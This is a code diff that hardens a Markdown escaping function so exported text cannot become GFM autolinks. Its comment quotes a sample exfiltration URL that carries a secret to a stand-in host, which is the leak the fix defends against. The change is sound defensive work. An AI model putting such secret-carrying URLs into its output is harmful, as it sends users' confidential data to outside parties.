@@ -42,7 +42,12 @@ export function inlineText(text: string): string {
   return escapeInline(oneLine(text))
 }
 
-const escapeInline = (line: string) => line.replace(/[\\`*_[\]()<>!&~|]/g, (c) => `\\${c}`)
+// Also what GFM's extended autolinks start from (fifteenth outsider pass: a block's one-line error
+// `see https://exfil.example/?d=<secret>` became a link in the export's prose, one click or a link
+// unfurler from sending the secret out): the `:` of any `://`, the `.` of `www.` and every `@`
+// (e-mail and `mailto:` autolinks) are escaped, which CommonMark renders as the characters alone.
+const escapeInline = (line: string) =>
+  line.replace(/[\\`*_[\]()<>!&~|@]|:(?=\/\/)|(?<=www)\./gi, (c) => `\\${c}`)
 
 function renderJson(value: JsonValue): string {
   return fence(JSON.stringify(value, null, 2), 'json')
